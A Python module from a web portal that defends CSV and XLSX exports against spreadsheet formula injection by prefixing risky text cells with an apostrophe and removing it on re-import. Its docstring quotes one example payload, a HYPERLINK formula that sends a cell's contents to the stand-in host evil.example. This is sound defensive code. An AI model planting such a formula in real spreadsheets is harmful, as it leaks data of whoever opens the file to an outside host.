"""The one cell neutraliser for every CSV and XLSX the portal exports (plain Python).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and a
leading tab or carriage return lets one hide behind whitespace): a project title such as
``=HYPERLINK("https://evil.example/?"&A1;"cliquez")`` would run on the computer of whoever
opens the public directory export. Such text cells get a leading apostrophe, which the
spreadsheet shows as text (OWASP "CSV injection"). Numbers stay numbers.

Every export goes through :func:`csv_writer` / :func:`csv_dict_writer` or, for
django-import-export, :class:`NeutralisedResourceMixin` (which also strips the apostrophe
again when a file it exported is imported back).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet will show it, never run it."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def restore(value: Any) -> Any:
    """The inverse of :func:`neutralise`, for files the portal exported and gets back."""
    if isinstance(value, str) and value.startswith("'") and value[1:2] and value[1] in TRIGGERS:
        return value[1:]
    return value


class _Writer:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _DictWriter:
    def __init__(self, writer: csv.DictWriter):
        self._writer = writer

    def writeheader(self):
        return self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]):
        return self._writer.writerow({k: neutralise(v) for k, v in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> _Writer:
    """``csv.writer`` whose cells are neutralised."""
    return _Writer(csv.writer(stream, **kwargs))


def csv_dict_writer(stream, fieldnames, **kwargs) -> _DictWriter:
    """``csv.DictWriter`` whose cells are neutralised."""
    return _DictWriter(csv.DictWriter(stream, fieldnames=fieldnames, **kwargs))


class NeutralisedResourceMixin:
    """For django-import-export resources: exported cells are neutralised (CSV, XLSX, and
    every other format), and the apostrophe is removed again on import."""

    def export_field(self, field, instance, **kwargs):
        return neutralise(super().export_field(field, instance, **kwargs))

    def before_import_row(self, row, **kwargs):
        for key in list(row.keys()):
            row[key] = restore(row[key])
        return super().before_import_row(row, **kwargs)
